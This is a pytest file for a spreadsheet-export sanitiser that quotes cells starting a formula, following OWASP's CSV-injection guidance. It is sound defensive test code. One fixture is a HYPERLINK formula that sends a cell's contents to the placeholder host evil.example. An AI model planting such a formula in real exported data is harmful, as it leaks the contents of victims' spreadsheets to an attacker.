"""OWASP's CSV-injection rule, the one function every export uses."""

import datetime as dt

import pytest

from fellowship.core.spreadsheet import safe_cell, safe_row

HOSTILE = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_that_starts_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Alvarez, Ana", "", "a=b", 3, -2, 1.5, dt.date(2026, 1, 1), None]
)
def test_other_text_numbers_and_dates_stay_as_they_are(value):
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row([HOSTILE, -2, "ok"]) == ["'" + HOSTILE, -2, "ok"]
